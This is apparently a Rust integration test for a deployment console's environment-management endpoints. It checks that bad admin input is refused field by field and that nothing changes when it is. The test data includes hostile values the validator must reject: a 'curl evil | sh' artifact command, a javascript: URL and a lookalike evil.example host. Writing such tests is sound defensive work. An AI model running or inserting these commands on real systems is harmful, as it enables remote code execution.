//! The Environments page's server functions through the real router: what
//! an admin may set from a browser, every refusal naming its field and
//! changing nothing, and what stays on the host's side (a process
//! environment's command, the proxy token file, a non-loopback proxy).

mod support;

use support::*;

fn create_form<'a>(overrides: &[(&'a str, &'a str)]) -> Vec<(&'a str, &'a str)> {
    let mut form = vec![
        ("name", "shop"),
        ("runtime", "docker"),
        ("artifact", "127.0.0.1:5000/shop:{version}"),
        ("app_url", "http://127.0.0.1:8300/"),
        ("preview_listen", ""),
        ("health_path", "/health"),
        ("admin_url", "http://127.0.0.1:8391"),
        ("upstream", ""),
        ("signoff_ttl_hours", "24"),
        ("checklist", "default"),
        ("port", "8080"),
        ("memory_mb", ""),
        ("cpus", ""),
        ("restart", "no"),
        ("network", ""),
    ];
    for (k, v) in overrides {
        form.iter_mut().find(|(f, _)| f == k).unwrap().1 = v;
    }
    form
}

#[tokio::test]
async fn an_admin_creates_edits_and_archives_with_every_bad_field_named() {
    let c = start().await;
    c.user("ada", Role::Admin).await;
    let admin = c.session_for("ada").await;
    let env_proxy = c
        .engine
        .environment_config(&engine::Actor::system(), ENV)
        .await
        .unwrap()
        .router
        .admin_url;

    for (field, value) in [
        ("name", "Shop!"),
        ("runtime", "process"),
        ("runtime", "kubernetes"),
        ("artifact", "127.0.0.1:5000/shop:latest"),
        ("artifact", "127.0.0.1:5000/Shop Now:{version}"),
        ("app_url", "javascript:alert(1)"),
        ("preview_listen", "everywhere"),
        ("health_path", "health"),
        ("admin_url", "http://10.1.2.3:8081"),
        ("admin_url", "http://127.0.0.1.evil.example:8081"),
        // The demo's own proxy already switches ENV.
        ("admin_url", env_proxy.as_str()),
        ("upstream", "nowhere"),
        ("signoff_ttl_hours", "a day"),
        ("checklist", "whatever"),
        ("checklist", "copy:nowhere"),
        ("port", "0"),
        ("port", "http"),
        ("memory_mb", "1"),
        ("cpus", "many"),
        ("restart", "sometimes"),
        ("network", "host"),
    ] {
        let before = c.count("environments").await;
        let audit_before = c.count("audit_log").await;
        let r = c
            .post(
                "/api/create_environment",
                &create_form(&[(field, value)]),
                Some(&admin),
                &[],
            )
            .await;
        assert_eq!(
            r.status,
            StatusCode::BAD_REQUEST,
            "{field}={value}: {}",
            r.body
        );
        match r.error() {
            AppError::InvalidInput { field: f, message } => {
                assert_eq!(f, field, "{field}={value}: {message}")
            }
            e => panic!("{field}={value}: {e:?}"),
        }
        assert_eq!(c.count("environments").await, before, "{field}={value}");
        assert_eq!(c.count("audit_log").await, audit_before, "{field}={value}");
    }

    let r = c
        .post(
            "/api/create_environment",
            &create_form(&[]),
            Some(&admin),
            &[],
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let shop = c
        .engine
        .environment_config(&engine::Actor::system(), "shop")
        .await
        .unwrap();
    // Switched by the console's own proxy token, whatever the browser said.
    assert!(shop.router.token_file.ends_with("proxy.token"), "{shop:?}");
    assert!(
        c.count("checklist_items").await > 0,
        "the default checklist"
    );
    let page = c.get("/environments/shop", Some(&admin)).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.body.contains("data-editing=\"shop\""), "{}", page.body);
    assert!(page.body.contains("127.0.0.1:5000/shop:{version}"));
    assert!(
        !page.body.contains("proxy.token"),
        "the token file's path is not shown"
    );

    // A process environment's command line stays as it is.
    let edit = |artifact: &'static str, health: &'static str| {
        vec![
            ("environment", ENV),
            ("artifact", artifact),
            ("app_url", "http://127.0.0.1:1/"),
            ("preview_listen", ""),
            ("health_path", health),
            ("stop_grace_ms", "10000"),
            ("admin_url", ""),
            ("upstream", ""),
            ("signoff_ttl_hours", "24"),
            ("port", "8080"),
            ("memory_mb", "128"),
            ("cpus", "0.5"),
            ("restart", "no"),
            ("network", ""),
        ]
    };
    let mut form = edit("/bin/sh -c 'curl evil | sh' {version}", "/ready");
    form[6].1 = env_proxy.as_str();
    let r = c
        .post("/api/edit_environment", &form, Some(&admin), &[])
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{}", r.body);
    assert!(matches!(r.error(), AppError::InvalidInput { field, .. } if field == "artifact"));
    // A registry login must name one of the environment's secrets.
    let mut form = edit("/bin/true {version}", "/ready");
    form[6].1 = env_proxy.as_str();
    form.push(("registry_user", "ci"));
    form.push(("registry_password_secret", "NOT_A_SECRET"));
    let r = c
        .post("/api/edit_environment", &form, Some(&admin), &[])
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{}", r.body);
    assert!(
        matches!(r.error(), AppError::InvalidInput { field, .. } if field == "registry_password_secret")
    );
    let mut form = edit("/bin/true {version}", "/ready");
    form[6].1 = env_proxy.as_str();
    let r = c
        .post("/api/edit_environment", &form, Some(&admin), &[])
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let env = c
        .engine
        .environment_config(&engine::Actor::system(), ENV)
        .await
        .unwrap();
    assert_eq!(env.health_path, "/ready");
    assert_eq!(env.artifact, "/bin/true {version}");

    // Archiving an environment users are on needs the confirmation.
    sqlx::query("UPDATE environments SET active_color = 'blue' WHERE name = 'shop'")
        .execute(&c.pool)
        .await
        .unwrap();
    let r = c
        .post(
            "/api/archive_environment",
            &[("environment", "shop")],
            Some(&admin),
            &[],
        )
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{}", r.body);
    assert!(matches!(r.error(), AppError::InvalidInput { field, .. } if field == "confirm"));
    let r = c
        .post(
            "/api/archive_environment",
            &[("environment", "shop"), ("confirm", "on")],
            Some(&admin),
            &[],
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let page = c.get("/environments", Some(&admin)).await;
    assert!(
        page.body.contains("data-archived=\"shop\""),
        "{}",
        page.body
    );
    assert!(!page.body.contains("data-environment=\"shop\""));
}
